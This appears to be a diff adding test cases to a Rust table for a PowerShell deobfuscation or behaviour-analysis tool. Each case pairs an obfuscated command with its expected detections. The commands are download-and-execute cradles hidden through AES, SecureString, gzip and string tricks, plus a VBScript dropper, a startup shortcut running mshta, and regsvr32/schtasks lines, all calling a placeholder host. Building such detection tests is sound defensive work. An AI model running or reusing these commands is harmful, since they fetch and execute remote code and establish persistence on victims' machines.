@@ -398,4 +398,69 @@ schtasks /create /tn Upd /tr C:\a.exe /sc minute /f",
         "regsvr32 /s /n /u /i:http://192.0.2.7/a.sct scrobj.dll",
         &["run regsvr32 /s /n /u /i:http://192.0.2.7/a.sct scrobj.dll", "fetch http://192.0.2.7/a.sct"],
     ),
+    (
+        "secure string",
+        "iex ([Runtime.InteropServices.Marshal]::PtrToStringAuto([Runtime.InteropServices.Marshal]::SecureStringToBSTR($('76492d1116743f0423413b16050a5345MgB8AEEAQQBFAEMAQQB3AFEARgBCAGcAYwBJAEMAUQBvAEwARABBADAATwBEAHcAPQA9AHwAZgAyADAAOQBhAGYAZQBmADgANwAzADkAMgAxAGMAMABiADkAYwBhAGMAMABhADEAZABlAGQAZQAyAGIAZQAzADMAMwAzAGMAZAAxADcAYQAwADkAMAA3ADUAZQBhAGQAZgBiAGQAMgAwADUAZAA4ADkAMwA1ADQAZgA3ADgAOAAwADEAYwA0AGMAYQBhADMAMwBjAGMAZQA2ADAANAAyADIAZQBjADgANABhADQAMAA5AGYAZAAwADIAMgBmADgANAA5AGYAYwA4ADMAZgBlADUAOQBiADYAOABjADEANwAwADEAMgA5ADIAYQAyAGIANgAyAGMANgBkADMANAAzADYAYgAzADEAYwA2AGEAYQA1ADkAYgBjADEANQA5ADYAYwBkADIAOQAxAGEAMwAwAGMAMwA4AGEANwA4AGEAZgBhAGMAMQA1ADAAYgA3AGMANAA4ADAAYQBlADEAYwAwAGQAMQBkADYAOABhADQAOQBjADEAZgA1ADYAYgBkADQAYgAwADMAZQA1ADgANABlADkAZgAzADYAYQAxAGUAMgBlAGQANwBmADEAMABkAGUAYQA4ADAAYwBiADMAYQA4ADYAYwA0ADgAMQAxADEAYgBhADcAZQBiAGEAMABiADUAZQAyAGMANQA4AGMAZgBiAGYAMQA1AGIAZQBmAGUANAAzADIAYQBlADkAYgAzADAAMQAxADUAZQBmADAAZQBmADMANwBmADcAOQAyADMAOABjADUAMwA3ADAANwBlAGEA' | ConvertTo-SecureString -Key (1..32)))))",
+        &["evaluate powershell", "fetch http://192.0.2.7/a"],
+    ),
+    (
+        "aes",
+        "$a=[Security.Cryptography.Aes]::Create();$a.Mode=[Security.Cryptography.CipherMode]::CBC;$a.Key=[Convert]::FromBase64String('AQIDBAUGBwgJCgsMDQ4PEBESExQVFhcYGRobHB0eHyA=');$a.IV=[Convert]::FromBase64String('AAECAwQFBgcICQoLDA0ODw==');$d=$a.CreateDecryptor();$b=[Convert]::FromBase64String('NHcRFYEvX8BeE3jeB0qQkf6yMcItopqAwF0WgYT2YAXNiW76L4+BtnxfQXXh292Zx4sxusyysPb8WLQIflz4vjnpyGUh1+g1P7WCRxAth+I=');iex ([Text.Encoding]::UTF8.GetString($d.TransformFinalBlock($b,0,$b.Length)))",
+        &["evaluate powershell", "fetch http://192.0.2.7/a"],
+    ),
+    (
+        "aes, ecb",
+        "$a=New-Object Security.Cryptography.AesManaged;$a.Mode='ECB';$a.Key=[byte[]](1..16);$b=[Convert]::FromBase64String('qHu6siWEjmvhi4pM6D6QBWASd6ieOZP0WDp+ItjbQaWgrCxWzj86vOHqfNDzQlYuOmEn9qNiWsQs1Bna+nFbTt1YoxqOyYlfjs2KOJ+id2c=');iex ([Text.Encoding]::UTF8.GetString($a.CreateDecryptor().TransformFinalBlock($b,0,$b.Length)))",
+        &["evaluate powershell", "fetch http://192.0.2.7/a"],
+    ),
+    (
+        "gzip copied into memory",
+        "$i=New-Object IO.MemoryStream(,[Convert]::FromBase64String('H4sIAAAAAAACA/N0jVDQ8Est1/VPykpNLlHwSy3RC09Ncs7JTM0r0dRzyS/Py8lPTAkuKcrMS9dQzygpKbDS1ze0NNIz0DPSM9dPVNcEALxefFVDAAAA'));$o=New-Object IO.MemoryStream;$g=New-Object IO.Compression.GZipStream $i,([IO.Compression.CompressionMode]::Decompress);$g.CopyTo($o);$g.Close();iex ([Text.Encoding]::UTF8.GetString($o.ToArray()))",
+        &["evaluate powershell", "fetch http://192.0.2.7/a"],
+    ),
+    (
+        "type accelerator in pieces",
+        "&('New'+'-Object') ('N'+'et.W'+'ebClient') | % { $_.('Downl'+'oadString')('http://192.0.2.7/a') } | iex",
+        &["fetch http://192.0.2.7/a"],
+    ),
+    (
+        "invoked variable",
+        r#"$x='iex';&$x "irm http://192.0.2.7/a""#,
+        &["evaluate powershell", "fetch http://192.0.2.7/a"],
+    ),
+    (
+        "nested functions and globals",
+        r#"function Get-U { param([string]$h, [int]$n = 7) $global:u = "http://192.0.2.$n/$h" }; Get-U -h a; irm $u"#,
+        &["fetch http://192.0.2.7/a"],
+    ),
+    (
+        "filter and begin blocks",
+        "filter f { $_ + 'a' }; 'http://192.0.2.7/' | f | % -Begin { $n = 0 } -Process { irm $_ }",
+        &["fetch http://192.0.2.7/a"],
+    ),
+    (
+        "every second letter",
+        "$t='xhxtxtxpx:x/x/x1x9x2x.x0x.x2x.x7x/xa';$u='';for($i=1;$i -lt $t.Length;$i+=2){$u+=$t[$i]};irm $u",
+        &["fetch http://192.0.2.7/a"],
+    ),
+    (
+        "dictionary of replacements",
+        "$s='h__p://192.0.2.7/a';@{'__'='tt'}.GetEnumerator() | % { $s=$s.Replace($_.Key,$_.Value) };irm $s",
+        &["fetch http://192.0.2.7/a"],
+    ),
+    (
+        "do until",
+        r#"$i=0;do{irm "http://192.0.2.7/$i";$i++}until($i -ge 2)"#,
+        &["fetch http://192.0.2.7/0", "fetch http://192.0.2.7/1"],
+    ),
+    (
+        "vbscript on disk",
+        r#"'CreateObject("WScript.Shell").Run "calc"' | Out-File -Encoding ascii $env:TEMP\x.vbs; wscript $env:TEMP\x.vbs"#,
+        &[r"write C:\Users\k.tanaka\AppData\Local\Temp\x.vbs 42", r"run wscript C:\Users\k.tanaka\AppData\Local\Temp\x.vbs"],
+    ),
+    (
+        "shortcut in startup",
+        r#"$s=(New-Object -ComObject WScript.Shell).CreateShortcut("$env:APPDATA\a.lnk");$s.TargetPath='mshta.exe';$s.Arguments='http://192.0.2.7/a';$s.Save()"#,
+        &[r"set shortcut C:\Users\k.tanaka\AppData\Roaming\a.lnk = mshta.exe http://192.0.2.7/a", "fetch http://192.0.2.7/a"],
+    ),
 ];
